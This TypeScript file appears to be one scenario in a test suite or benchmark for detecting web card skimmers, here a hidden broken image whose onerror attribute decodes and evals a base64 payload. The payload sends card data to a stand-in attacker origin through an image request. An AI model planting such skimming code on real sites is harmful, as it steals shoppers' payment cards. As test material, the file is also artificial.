import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'onerror-attribute',
  why: "A broken picture's onerror attribute decodes and runs the code, so that no script element is added (published 2025).",
  covers: ['injection: onerror attribute', 'obfuscation: eval', 'injection: database block'],
  base: 'direct',
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/oe.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    site.markup(
      `<img src="/media/missing.png" style="display:none" onerror="this.remove();(0,eval)(atob('${Buffer.from(code).toString('base64')}'))">`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
